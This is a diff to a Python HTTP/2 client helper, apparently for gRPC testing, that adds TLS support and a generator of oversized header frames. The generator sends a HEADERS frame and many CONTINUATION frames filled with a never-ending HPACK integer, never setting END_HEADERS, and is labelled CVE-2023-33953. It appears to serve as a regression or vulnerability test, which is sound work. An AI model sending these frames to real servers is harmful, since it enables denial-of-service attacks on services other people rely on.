@@ -3,7 +3,7 @@
 import socket
 import struct
 
-DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
+DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
 END_STREAM, END_HEADERS = 1, 4
 INITIAL_WINDOW_SIZE = 4
 
@@ -23,16 +23,26 @@ def call_headers(method):
     return b"".join(header(*field) for field in fields)
 
 
+def padded_header(num_bytes):
+    """Frames of one header whose index is a number with so many leading zeros and no end (CVE-2023-33953)."""
+    size = 16384
+    yield frame(HEADERS, 0, 1, b"\x7f" + b"\x80" * (size - 1))
+    for _ in range(num_bytes // size - 1):
+        yield frame(CONTINUATION, 0, 1, b"\x80" * size)
+
+
 def message(request):
     return b"\x00" + struct.pack(">I", len(request)) + request
 
 
 class Connection:
-    """A connection that has said hello, with `window` bytes that the server may send on each stream. It never reads unless told."""
+    """A connection that has said hello, with `window` bytes that the server may send on each stream. It never reads unless told. `tls`: an ssl.SSLContext."""
 
-    def __init__(self, address, window=65535):
+    def __init__(self, address, window=65535, tls=None):
         host, _, port = address.rpartition(":")
         self.socket = socket.create_connection((host, int(port)), timeout=60)
+        if tls is not None:
+            self.socket = tls.wrap_socket(self.socket, server_hostname=host)
         self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))
 
     def begin(self, stream, method, request=None):
